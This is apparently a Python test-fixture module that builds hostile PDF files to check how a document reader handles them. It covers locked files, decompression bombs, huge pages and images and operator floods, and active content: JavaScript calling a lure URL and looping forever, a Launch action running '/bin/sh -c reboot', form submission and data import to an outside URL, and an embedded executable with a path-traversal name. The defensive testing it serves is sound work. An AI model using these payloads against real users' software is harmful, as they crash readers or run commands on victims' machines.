"""Pdf files that are locked, that call out, or that ask for too much."""

from __future__ import annotations

import hashlib
import zlib

from hostile.deflating import ZEROS, deflated
from hostile.hostile_file import HostileFile, Lure, Read, refused
from hostile.pdf_writer import A4, PdfWriter, pdf_of, shown

_LOCKED = refused("加密", "密码")
_TOO_MUCH = refused("正文", "内存", "秒", "崩溃")


def hostile_pdfs(lure: Lure) -> list[HostileFile]:
    """Locked files, bombs, and files that want to run or fetch something."""
    return [
        HostileFile("pdf/locked, rc4.pdf", lambda: pdf_of(trailer=_locked(2, 3)), _LOCKED),
        HostileFile("pdf/locked, aes.pdf", lambda: pdf_of(trailer=_locked(5, 6)), _LOCKED),
        HostileFile(
            "pdf/locked by unknown means.pdf", lambda: pdf_of(trailer=_odd_lock()), _LOCKED
        ),
        HostileFile("pdf/may not be printed.pdf", _owner_password, Read()),
        HostileFile("pdf/script, launch.pdf", lambda: pdf_of(catalog=_actions(lure)), Read()),
        HostileFile("pdf/links out.pdf", lambda: _links(lure), Read()),
        HostileFile("pdf/stream lies elsewhere.pdf", lambda: _external_stream(lure), Read()),
        HostileFile("pdf/program inside.pdf", _embedded_program, Read()),
        HostileFile("pdf/5000 pages.pdf", lambda: pdf_of([b""] * 5000), refused("页")),
        HostileFile("pdf/1900 pages without text.pdf", _many_scans, refused("秒")),
        HostileFile(
            "pdf/page of 5 m.pdf", lambda: _pictured(b"[0 0 14400 14400]"), refused("正文")
        ),
        HostileFile("pdf/page of 350 km.pdf", lambda: _sized(b"[0 0 1e9 1e9]"), Read()),
        HostileFile("pdf/page of no size.pdf", lambda: _sized(b"[0 0 0 0]"), Read()),
        HostileFile("pdf/page inside out.pdf", lambda: _sized(b"[595 842 -5 -5]"), Read()),
        HostileFile("pdf/picture of 3600 megapixels.pdf", _huge_picture, refused("像素", "正文")),
        HostileFile("pdf/content of 1 GB.pdf", lambda: _bomb(1), _TOO_MUCH),
        HostileFile("pdf/content deflated twice.pdf", lambda: _bomb(2), _TOO_MUCH),
        HostileFile("pdf/object stream of 1 GB.pdf", _object_stream, Read()),
        HostileFile(
            "pdf/5 million operators.pdf", lambda: _busy(b"0 0 m 9 9 l S\n", 1_700_000), Read()
        ),
        HostileFile("pdf/300000 rules.pdf", _rules, Read()),
        HostileFile("pdf/million levels of state.pdf", lambda: _busy(b"q ", 1_000_000), Read()),
        HostileFile("pdf/million characters on a spot.pdf", _heap, Read()),
        HostileFile("pdf/picture is garbage.pdf", _garbage_picture, refused("正文", "损坏")),
    ]


def _locked(version: int, revision: int) -> bytes:
    """Return an encryption that no password opens."""
    size = 48 if version == 5 else 32
    lock = hashlib.sha512(b"lock").hexdigest()[: size * 2].ljust(size * 2, "7").encode()
    filter = b"/CF<</StdCF<</CFM/AESV3/AuthEvent/DocOpen/Length 32>>>>/StmF/StdCF/StrF/StdCF"
    more = b"/OE<%s>/UE<%s>/Perms<%s>" % (lock[:64], lock[:64], lock[:32]) + filter
    return b"/ID[<00><00>]/Encrypt<</Filter/Standard/V %d/R %d/Length %d/P -44/O<%s>/U<%s>%s>>" % (
        version,
        revision,
        256 if version == 5 else 128,
        lock,
        lock,
        more if version == 5 else b"",
    )


def _odd_lock() -> bytes:
    return b"/ID[<00><00>]/Encrypt<</Filter/HouseLock/V 99/R 99>>"


def _rc4(key: bytes, data: bytes) -> bytes:
    box = list(range(256))
    j = 0
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out)


def _owner_password() -> bytes:
    """Return a file that opens without a password and forbids everything else."""
    pad = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
    owner = _rc4(hashlib.md5(b"owner".ljust(5) + pad[:27], usedforsecurity=False).digest()[:5], pad)
    rights = (-64 & 0xFFFFFFFF).to_bytes(4, "little")
    key = hashlib.md5(pad + owner + rights + b"\0", usedforsecurity=False).digest()[:5]
    writer = PdfWriter()
    content = max(writer.objects) + 1
    salted = key + content.to_bytes(3, "little") + b"\0\0"
    own = hashlib.md5(salted, usedforsecurity=False).digest()[:10]
    writer.page(writer.stream(_rc4(own, shown())))
    lock = b"/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/P -64/O<%s>/U<%s>>>"
    return writer.finish(trailer=lock % (owner.hex().encode(), _rc4(key, pad).hex().encode()))


def _actions(lure: Lure) -> bytes:
    url = lure.url.encode()
    return (
        b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('%s/js'\\);while\\(true\\){})>>"
        b"/AA<</WC<</S/Launch/F(/bin/sh)/P(-c reboot)>>/DS<</S/SubmitForm/F(%s/form)>>>>"
        % (url, url)
    )


def _links(lure: Lure) -> bytes:
    area, url = b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<<", lure.url.encode()
    ways = (
        b"/S/URI/URI(%s/uri)" % url,
        b"/S/GoToR/F(%s/other.pdf)/D[0/Fit]" % url,
        b"/S/GoToR/F(%s)/D[0/Fit]" % lure.path.encode(),
        b"/S/ImportData/F(%s/data.fdf)" % url,
    )
    return pdf_of(page=A4 + b"/Annots[%s]" % b"".join(area + way + b">>>>" for way in ways))


def _external_stream(lure: Lure) -> bytes:
    writer = PdfWriter()
    writer.page(writer.stream(shown()))
    writer.page(writer.stream(b"", b"/F(%s)" % lure.path.encode()))
    writer.page(writer.stream(b"", b"/F<</FS/URL/F(%s/stream)>>" % lure.url.encode()))
    return writer.finish()


def _embedded_program() -> bytes:
    writer = PdfWriter()
    writer.page(writer.stream(shown()))
    file = writer.stream(b"MZ\x90\0" + bytes(200), b"/Type/EmbeddedFile", pack=True)
    about = b"<</Type/Filespec/F(../../run.exe)/EF<</F %d 0 R>>>>" % file
    return writer.finish(b"/Names<</EmbeddedFiles<</Names[(a)%s]>>>>" % about)


def _many_scans() -> bytes:
    """Return pages that all show one small picture and have no text."""
    writer = PdfWriter()
    picture = _picture(writer, zlib.compress(bytes(200 * 300)), 200, 300)
    for _ in range(1900):
        show = writer.stream(b"595 0 0 842 0 0 cm /X Do")
        writer.page(show, resources=b"/XObject<</X %d 0 R>>" % picture)
    return writer.finish()


def _picture(writer: PdfWriter, packed: bytes, width: int, height: int, bits: int = 8) -> int:
    return writer.stream(
        packed,
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent %d"
        b"/ColorSpace/DeviceGray/Filter/FlateDecode" % (width, height, bits),
    )


def _only_picture(packed: bytes, width: int, height: int, bits: int, box: bytes) -> bytes:
    writer = PdfWriter()
    picture = _picture(writer, packed, width, height, bits)
    show = writer.stream(b"595 0 0 842 0 0 cm /X Do")
    writer.page(show, b"/MediaBox" + box, b"/XObject<</X %d 0 R>>" % picture)
    return writer.finish()


def _pictured(box: bytes) -> bytes:
    return _only_picture(zlib.compress(b"\xff" * 60_000), 200, 300, 8, box)


def _garbage_picture() -> bytes:
    return _only_picture(b"\x78\xda\xff\xff\xff not deflated", 200, 300, 8, b"[0 0 595 842]")


def _huge_picture() -> bytes:
    packed = deflated((ZEROS, 430)).zlib
    return _only_picture(packed, 60_000, 60_000, 1, b"[0 0 595 842]")


def _sized(box: bytes) -> bytes:
    return pdf_of(page=b"/MediaBox" + box)


def _bomb(times: int) -> bytes:
    writer = PdfWriter()
    data = deflated((b" " * len(ZEROS), 1000)).zlib
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    filters = b"/FlateDecode" * times
    writer.page(writer.stream(data, b"/Filter[%s]" % filters))
    return writer.finish()


def _object_stream() -> bytes:
    writer = PdfWriter()
    writer.page(writer.stream(shown()))
    packed = deflated((b" " * len(ZEROS), 1000)).zlib
    writer.stream(packed, b"/Type/ObjStm/N 1000000000/First 1000000000/Filter/FlateDecode")
    return writer.finish()


def _busy(operators: bytes, times: int) -> bytes:
    return pdf_of([operators * times], pack=True)


def _rules() -> bytes:
    lines = b"".join(
        b"%d %d m %d %d l S\n" % (n % 590, n % 840, n * 7 % 590, n % 840) for n in range(300_000)
    )
    return pdf_of([lines], pack=True)


def _heap() -> bytes:
    """Return a page that prints a character a million times on the same spot."""
    spot = b"BT /F1 12 Tf 72 500 Td %s ET" % (b"<591C> Tj 0 0 Td " * 1_000_000)
    return pdf_of([spot], pack=True)
